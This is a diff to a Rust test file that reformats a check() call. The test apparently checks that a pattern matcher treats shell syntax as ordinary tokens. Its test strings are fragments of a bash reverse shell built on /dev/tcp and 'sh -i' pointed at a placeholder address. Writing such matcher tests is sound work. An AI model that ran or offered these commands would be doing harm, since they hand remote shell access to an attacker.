@@ -44,7 +44,11 @@ fn dots_span_a_bounded_number_of_lines() {
 
 #[test]
 fn signs_of_a_shell_are_tokens_like_others() {
-    check("<...>/dev/tcp/.../...; cat <&... | while read line", "exec 5<>/dev/tcp/10.1/90;cat <&5 | while read line; do", &["<>/dev/tcp/10.1/90;cat <&5 | while read line"]);
+    check(
+        "<...>/dev/tcp/.../...; cat <&... | while read line",
+        "exec 5<>/dev/tcp/10.1/90;cat <&5 | while read line; do",
+        &["<>/dev/tcp/10.1/90;cat <&5 | while read line"],
+    );
     check("do $line 2>&... >&...;done", "do $line 2>&5 >&5; done", &["do $line 2>&5 >&5; done"]);
     check("sh -i ...<...> /dev/...", "sh -i 5<> /dev/tcp", &["sh -i 5<> /dev/tcp"]);
 }
